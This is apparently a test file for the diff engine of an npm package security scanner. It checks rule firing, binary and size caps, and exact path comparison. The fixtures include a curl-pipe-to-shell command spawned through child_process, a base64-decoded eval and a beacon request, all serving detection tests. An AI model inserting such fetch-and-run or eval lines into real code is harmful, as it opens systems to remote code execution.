import assert from 'node:assert/strict';
import { test } from 'node:test';
import { diffContents, sameContent } from '../../../src/engine/diff/diffContents';
import type { VersionDiff } from '../../../src/engine/diff/types';
import { readTarball } from '../../../src/engine/tarball/readTarball';
import { packFiles } from '../../support/verdaccio';
import { contents, file, manifest } from './contentsHelper';
import { EXPECTED, NAME, packageJsonText, V1, V2 } from './releaseFixture';

const OPTS = { name: 'pkg', from: '1.0.0', to: '1.0.1', basis: 'semver-previous' as const };

/** The listing without patches (they are checked on their own). */
function listing(d: VersionDiff) {
  return { added: d.added, removed: d.removed, changed: d.changed.map(({ patch: _p, patchTruncated: _t, patchSkipped: _s, ...rest }) => rest), unchangedCount: d.unchangedCount, totals: d.totals };
}

test('a release that adds a postinstall, binding.gyp, a phantom dependency and a script with a hit', async () => {
  const before = await readTarball(packFiles({ 'package.json': packageJsonText(V1.packageJson), ...V1.files }));
  const after = await readTarball(packFiles({ 'package.json': packageJsonText(V2.packageJson), ...V2.files }));
  const diff = diffContents(before, after, { name: NAME, from: '1.0.0', to: '1.1.0', basis: 'semver-previous' });
  assert.deepEqual(listing(diff), EXPECTED);
  assert.deepEqual([diff.name, diff.from, diff.to, diff.basis, diff.truncated, diff.packageNewRules, diff.unchangedWithNewRules], [NAME, '1.0.0', '1.1.0', 'semver-previous', undefined, undefined, undefined]);
  const index = diff.changed.find((c) => c.path === 'index.js')!;
  assert.equal(
    index.patch,
    [
      '--- a/index.js',
      '+++ b/index.js',
      '@@ -1,3 +1,3 @@',
      " const pad = require('left-pad');",
      " const ms = require('ms');",
      "-module.exports = (s) => pad(s, ms('1s'));",
      "+module.exports = (s, n = 10) => pad(s, n) + ms('1s');",
      '',
    ].join('\n'),
  );
  const pj = diff.changed.find((c) => c.path === 'package.json')!.patch!;
  assert.match(pj, /^\+ {4}"postinstall": "node scripts\/setup\.js"$/m);
  assert.match(pj, /^\+ {4}"color-helper-utils": "\^1\.0\.0"$/m);
  assert.match(pj, /^- {2}"version": "1\.0\.0",$/m);
});

test('a rule that already fired in the old file is not new; one that starts firing is', () => {
  const evalLine = "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n";
  const before = contents([manifest({ name: 'pkg', version: '1.0.0' }), file('index.js', evalLine)]);
  const after = contents([manifest({ name: 'pkg', version: '1.0.1' }), file('index.js', `${evalLine}require('child_process').exec('curl -s http://203.0.113.7/x | sh');\n`)]);
  const diff = diffContents(before, after, OPTS);
  const index = diff.changed.find((c) => c.path === 'index.js')!;
  assert.ok(!index.newRules.includes('dynamic-code-decoded'), index.newRules.join());
  assert.ok(index.newRules.includes('process-spawn'), index.newRules.join());
  // package.json changed only in its version: nothing new fires there.
  assert.deepEqual(diff.changed.find((c) => c.path === 'package.json')!.newRules, []);
});

test('an unchanged file that starts to fire (it became the entry point) is listed apart', () => {
  const beacon = "require('https').get('https://beacon.example.invalid/ping');\nmodule.exports = 1;\n";
  const before = contents([manifest({ name: 'pkg', version: '1.0.0', main: 'index.js' }), file('index.js', 'module.exports = 1;\n'), file('lib/beacon.js', beacon)]);
  const after = contents([manifest({ name: 'pkg', version: '1.0.1', main: 'lib/beacon.js' }), file('index.js', 'module.exports = 1;\n'), file('lib/beacon.js', beacon)]);
  const diff = diffContents(before, after, OPTS);
  assert.deepEqual(diff.unchangedWithNewRules, [{ path: 'lib/beacon.js', newRules: ['entry-point-side-effect'] }]);
  assert.equal(diff.unchangedCount, 2);
});

test('binaries: different bytes of the same size are a change (by hash), with no patch; identical ones are not', () => {
  const elf = (fill: number) => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200, fill)]);
  const before = contents([manifest({ name: 'pkg', version: '1.0.0' }), file('bin/tool', elf(1), 0o755), file('same.bin', elf(9))]);
  const after = contents([manifest({ name: 'pkg', version: '1.0.1' }), file('bin/tool', elf(2), 0o755), file('same.bin', elf(9))]);
  const diff = diffContents(before, after, OPTS);
  const tool = diff.changed.find((c) => c.path === 'bin/tool')!;
  assert.deepEqual([tool.binary, tool.sizeBefore, tool.sizeAfter, tool.patch, tool.patchSkipped], [true, 208, 208, undefined, 'binary']);
  assert.deepEqual(diff.changed.map((c) => c.path), ['bin/tool', 'package.json']);
  assert.equal(diff.unchangedCount, 1);
});

test('a file that became executable is changed, with the modes and no patch', () => {
  const before = contents([file('run.sh', 'echo hi\n', 0o644)]);
  const after = contents([file('run.sh', 'echo hi\n', 0o755)]);
  const diff = diffContents(before, after, OPTS);
  assert.deepEqual(diff.changed, [{ path: 'run.sh', sizeBefore: 8, sizeAfter: 8, binary: false, newRules: [], modeBefore: 0o644, modeAfter: 0o755 }]);
});

test('caps: listed files, one patch, the total patch budget, big inputs and minified files', () => {
  const many = (n: number, v: string) => Array.from({ length: n }, (_, i) => file(`f/${String(i).padStart(3, '0')}.txt`, `${v}\n`));
  const cut = diffContents(contents(many(10, 'a')), contents([...many(10, 'b'), file('new.txt', 'x')]), { ...OPTS, limits: { maxListedFiles: 4 } });
  assert.deepEqual(cut.totals, { added: 1, removed: 0, changed: 10 });
  // Changed before added: f/000..f/003 are listed, new.txt is not.
  assert.deepEqual([cut.changed.map((c) => c.path), cut.added.length], [['f/000.txt', 'f/001.txt', 'f/002.txt', 'f/003.txt'], 0]);
  assert.match(cut.truncated!, /^7 of 11 changed paths not listed \(over 4\)/);

  const long = (v: string) => Array.from({ length: 400 }, (_, i) => `line ${i} ${v}`).join('\n');
  const one = diffContents(contents([file('a.txt', long('old'))]), contents([file('a.txt', long('new'))]), { ...OPTS, limits: { maxPatchChars: 1000 } });
  const patch = one.changed[0]!.patch!;
  assert.equal(one.changed[0]!.patchTruncated, true);
  assert.ok(patch.length <= 1000 && patch.endsWith('\n'), `${patch.length}`);
  assert.match(patch, /^--- a\/a\.txt\n\+\+\+ b\/a\.txt\n@@ /);

  const budget = diffContents(contents([file('a.txt', 'a\n'), file('b.txt', 'b\n'), file('c.txt', 'c\n')]), contents([file('a.txt', 'A\n'), file('b.txt', 'B\n'), file('c.txt', 'C\n')]), { ...OPTS, limits: { maxTotalPatchChars: 60 } });
  assert.deepEqual(budget.changed.map((c) => [c.path, !!c.patch, c.patchSkipped]), [['a.txt', true, undefined], ['b.txt', true, undefined], ['c.txt', false, 'patch budget for this diff used up']]);
  assert.equal(budget.changed[1]!.patchTruncated, true);
  assert.match(budget.truncated!, /1 changed file\(s\) without a patch: the 60-character patch budget was used up/);

  const big = diffContents(contents([file('big.txt', 'x'.repeat(5000))]), contents([file('big.txt', 'y'.repeat(5000))]), { ...OPTS, limits: { maxDiffInputChars: 4096 } });
  assert.deepEqual([big.changed[0]!.patch, big.changed[0]!.patchSkipped], [undefined, 'too large to diff']);

  const minified = (v: string) => `!function(){${'var a=1;'.repeat(5000)}return "${v}"}();`;
  const min = diffContents(contents([file('dist/x.min.js', minified('1'))]), contents([file('dist/x.min.js', minified('2'))]), OPTS);
  assert.deepEqual([min.changed[0]!.patch, min.changed[0]!.patchSkipped], [undefined, 'minified: too large to diff']);

  const noPatches = diffContents(contents([file('a.txt', 'a\n')]), contents([file('a.txt', 'b\n')]), { ...OPTS, patches: false });
  assert.deepEqual(noPatches.changed, [{ path: 'a.txt', sizeBefore: 2, sizeAfter: 2, binary: false, newRules: [] }]);
});

test('paths are compared exactly: case, Unicode form, prototype names, spaces, depth', () => {
  const nfc = 'caf\u00e9.js';
  const nfd = 'cafe\u0301.js';
  const deep = `${Array.from({ length: 20 }, (_, i) => `d${i}`).join('/')}/x.js`;
  const before = contents([file('Index.js', '1'), file(nfc, '1'), file('__proto__', '1'), file('constructor', '1'), file('with space.txt', '1'), file(deep, '1')]);
  const after = contents([file('index.js', '1'), file(nfd, '1'), file('__proto__', '2'), file('constructor', '1'), file('with space.txt', '1'), file(deep, '2')]);
  const diff = diffContents(before, after, OPTS);
  assert.deepEqual(diff.added.map((a) => a.path), [nfd, 'index.js'].sort());
  assert.deepEqual(diff.removed.map((a) => a.path), ['Index.js', nfc].sort());
  assert.deepEqual(diff.changed.map((c) => c.path), ['__proto__', deep].sort());
  assert.equal(diff.unchangedCount, 2);
  assert.equal(Object.getPrototypeOf(diff), Object.prototype);
});

test('files read only partly: a different size is a change without a patch; the same first bytes cannot be told apart', () => {
  const partial = (size: number, first: string) => ({ path: 'huge.js', size, mode: 0o644, head: Buffer.from(first), binary: false, truncated: true, prefix: Buffer.from(first) });
  const changed = diffContents(contents([partial(20_000_000, 'var a;')]), contents([partial(20_000_001, 'var a;')]), OPTS);
  assert.deepEqual([changed.changed[0]!.path, changed.changed[0]!.patchSkipped], ['huge.js', 'too large to diff (not read whole)']);
  const same = diffContents(contents([partial(20_000_000, 'var a;')]), contents([partial(20_000_000, 'var a;')]), OPTS);
  assert.deepEqual([same.changed.length, same.unchangedCount], [0, 1]);
  assert.match(same.truncated!, /1 file\(s\) read only partly on both sides were taken as unchanged/);
  assert.equal(sameContent(partial(5, 'abc'), partial(5, 'abd')), false);
});

test('a side that hit a reading cap makes the diff say it is incomplete', () => {
  const capped = contents([file('a.js', '1')]);
  capped.capsHit.push({ code: 'E_TOO_LARGE', limit: 'maxFiles', max: 1, detail: 'more than 1 entries', count: 1 });
  const diff = diffContents(contents([file('a.js', '1'), file('b.js', '2')]), capped, OPTS);
  assert.deepEqual(diff.removed.map((r) => r.path), ['b.js']);
  assert.equal(diff.truncated, 'the new version was read only partly (maxFiles limit)');
});

test("a scan's own findings stand in for the new side's analysis; metadata and intel findings are not the files'", () => {
  const before = contents([manifest({ name: 'pkg', version: '1.0.0' }), file('index.js', 'module.exports = 1;\n')]);
  const after = contents([manifest({ name: 'pkg', version: '1.0.1' }), file('index.js', 'module.exports = 2;\n')]);
  const diff = diffContents(before, after, {
    ...OPTS,
    afterFindings: [
      { rule: 'network-access', kind: 'capability', category: 'network', severity: 'low', message: 'm', file: 'index.js', line: 1 },
      { rule: 'cool-down', kind: 'metadata', category: 'metadata', severity: 'low', message: 'published an hour ago' },
      { rule: 'known-malware', kind: 'intel', category: 'metadata', severity: 'critical', message: 'MAL-0000-0000' },
    ],
  });
  assert.deepEqual(diff.changed.map((c) => [c.path, c.newRules]), [['index.js', ['network-access']], ['package.json', []]]);
  assert.equal(diff.packageNewRules, undefined);
});

test('a file over the single-file cap is still compared whole (hashed while streaming), with no patch', async () => {
  const blob = (fill: number) => Buffer.concat([Buffer.from('\0ELF'), Buffer.alloc(4096, fill)]);
  const text = (v: string) => `// ${v}\n${'x'.repeat(3000)}\n`;
  const limits = { maxFileBytes: 1024 };
  const before = await readTarball(packFiles({ 'package.json': '{"name":"pkg","version":"1.0.0"}', 'lib.node': blob(1), 'same.node': blob(7), 'big.js': text('a') }), limits);
  const after = await readTarball(packFiles({ 'package.json': '{"name":"pkg","version":"1.0.0"}', 'lib.node': blob(2), 'same.node': blob(7), 'big.js': text('b') }), limits);
  assert.ok(after.files.every((f) => f.path === 'package.json' || (f.truncated && f.sha256)), 'files over the cap are truncated but hashed');
  const diff = diffContents(before, after, OPTS);
  assert.deepEqual(diff.changed.map((c) => [c.path, c.patchSkipped]), [['big.js', 'too large to diff (not read whole)'], ['lib.node', 'binary']]);
  assert.deepEqual([diff.unchangedCount, diff.truncated], [2, undefined]);
});
